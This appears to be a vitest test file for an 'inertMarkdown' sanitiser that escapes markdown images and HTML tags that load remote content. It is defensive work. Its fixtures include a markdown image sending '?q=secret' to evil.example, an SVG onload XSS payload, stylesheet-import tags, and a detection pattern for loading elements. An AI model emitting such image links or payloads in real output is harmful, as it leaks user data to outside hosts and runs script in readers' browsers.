import { readdirSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import { describe, expect, it } from 'vitest'
import { inertMarkdown } from './inert-markdown.ts'

describe('what a text would load', () => {
  it.each([
    ['![](https://evil.example/?q=secret)', '!\\[](https://evil.example/?q=secret)'],
    [
      'It melts [1]. ![a [b] c](<//evil.example>) It is.',
      'It melts [1]. !\\[a [b] c](<//evil.example>) It is.',
    ],
    ['![a\nb](https://evil.example)', '!\\[a\nb](https://evil.example)'],
    [
      '![a][1] ![b][] ![c]\n\n[c]: https://e.example',
      '!\\[a][1] !\\[b][] !\\[c]\n\n[c]: https://e.example',
    ],
    ['See![1].\n\n[1]: https://evil.example', 'See!\\[1].\n\n[1]: https://evil.example'],
    ['![1](https://evil.example)', '!\\[1](https://evil.example)'],
    [
      '[![x](https://evil.example)](https://b.example)',
      '[!\\[x](https://evil.example)](https://b.example)',
    ],
    ['> - ![x](https://evil.example)', '> - !\\[x](https://evil.example)'],
    ['\\\\![x](https://evil.example)', '\\\\!\\[x](https://evil.example)'],
    ['`a` ![x](https://evil.example) `b', '`a` !\\[x](https://evil.example) `b'],
    ['a <img src="https://evil.example"> b', 'a \\<img src="https://evil.example"> b'],
    ['<IMG\nSRC=x><svg/onload=alert(1)>', '\\<IMG\nSRC=x>\\<svg/onload=alert(1)>'],
    [
      '<link rel=stylesheet href=//e> <style>@import "e"</style>',
      '\\<link rel=stylesheet href=//e> \\<style>@import "e"\\</style>',
    ],
    ['<table background="https://evil.example">', '\\<table background="https://evil.example">'],
  ])('%j is seen as it was written', (text, expected) => {
    expect(inertMarkdown(text)).toBe(expected)
    expect(inertMarkdown(expected)).toBe(expected)
  })

  it.each([
    '',
    'It melts at 412 °C [1]. Really![1] And![2, 3] so on ![4].',
    'a < b, x<y, <b>bold</b> <https://a.example> [x](https://a.example)',
    '`![x](https://a.example)` and ``<img `src``',
    '```md\n![x](https://a.example)\n<img src=x>\n```',
    '    ![x](https://a.example)',
    '\\![x] \\<img> !\\[x](https://a.example)',
  ])('%j stays', (text) => {
    expect(inertMarkdown(text)).toBe(text)
  })

  it('is found in time linear in the length', () => {
    for (const unit of ['![', '<img ', '`', '![a](', '![1]', '<'])
      expect(inertMarkdown(unit.repeat(40_000)).length).toBeGreaterThan(40_000 - 1)
  }, 10_000)
})

/** The examples of the specification of CommonMark whose HTML loads something, and the HTML of all others with code. */
function examples() {
  const folder = join(process.env.SCHOLIUM_DATA ?? '', '06-conformance/commonmark')
  const spec = readFileSync(join(folder, 'spec.txt'), 'utf8')
  const found = [...spec.matchAll(/^`{32} example\n([\s\S]*?)^\.\n([\s\S]*?)^`{32}$/gm)]
  return found.map(([, markdown = '', html = '']) => ({ markdown, html }))
}

const loading = /<(?:img|script|style|table|td|svg|iframe|link)\b/i

describe.skipIf(!process.env.SCHOLIUM_DATA)('collections (need SCHOLIUM_DATA)', () => {
  it('of all that CommonMark shows as an image nothing is one afterwards', () => {
    const images = examples().filter(({ html }) => html.includes('<img'))
    expect(images.length).toBeGreaterThan(20)
    const left = images.filter(({ markdown }) => !/!\\\[|\\<img/.test(inertMarkdown(markdown)))
    expect(left).toEqual([])
  })

  it('what CommonMark shows as code or words stays', () => {
    const plain = examples().filter(
      ({ markdown, html }) => !loading.test(html) && /!\[|<\w/.test(markdown),
    )
    expect(plain.length).toBeGreaterThan(20)
    const changed = plain.filter(({ markdown }) => inertMarkdown(markdown) !== markdown)
    // What only looks like an image gets a backslash that nobody sees.
    expect(changed.filter(({ markdown }) => !/!\[(?:\[foo|CDATA)/.test(markdown))).toEqual([])
  })

  it('the lists of payloads keep no image and no element that loads', () => {
    const folder = join(process.env.SCHOLIUM_DATA ?? '', '07-adversarial/PayloadsAllTheThings')
    const files = readdirSync(folder, { recursive: true, withFileTypes: true })
    const lines = files
      .filter((entry) => entry.isFile() && /\.(?:txt|md)$/.test(entry.name))
      .flatMap((entry) => readFileSync(join(entry.parentPath, entry.name), 'utf8').split('\n'))
    // Outside of code a tag or an image has a backslash before it.
    const plain = lines.filter((line) => !/[`~]|^(?: {4}|\s*\t)/.test(line))
    const left = plain.filter((line) =>
      /(?<!\\)<(?:img|svg|script|iframe|video|audio|style|link|object|embed)\b|(?<!\\)!\[(?!\d)/i.test(
        inertMarkdown(line),
      ),
    )
    expect(plain.length).toBeGreaterThan(1_000)
    expect(left).toEqual([])
  })
})
